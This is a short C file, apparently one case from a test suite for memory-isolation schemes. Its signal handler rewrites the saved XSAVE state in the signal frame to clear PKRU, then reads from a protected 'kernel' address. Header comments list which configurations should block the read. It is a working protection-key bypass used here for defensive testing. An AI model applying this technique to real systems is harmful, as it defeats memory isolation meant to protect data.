/* A signal frame changed by its handler: PKRU open in the saved state; then a load from the kernel's memory. */
/* none: succeeded */
/* pkey: SIGSEGV */
/* process: SIGSEGV */
#include "attack.h"

static void handler(int signal, siginfo_t *info, void *context)
{
	char *state = (char *)((ucontext_t *)context)->uc_mcontext.fpregs;
	*(uint64_t *)(state + 512) |= 1 << 9;
	/* Where PKRU is in the standard form (CPUID 0xd, leaf 9). */
	uint32_t a = 0xd, b, c = 9, d;
	asm volatile("cpuid" : "+a"(a), "=b"(b), "+c"(c), "=d"(d));
	if (b >= 576 && b < 4096)
		*(uint32_t *)(state + b) = 0;
	/* The host's own copy of the component mask. */
	*(uint64_t *)(state + 472) |= 1 << 9;
}

static int attack(void)
{
	struct sigaction action = { .sa_sigaction = handler, .sa_flags = SA_SIGINFO };
	sigaction(SIGUSR1, &action, 0);
	raise(SIGUSR1);
	return *(volatile uint64_t *)CONTROL ? 0 : REFUSED;
}
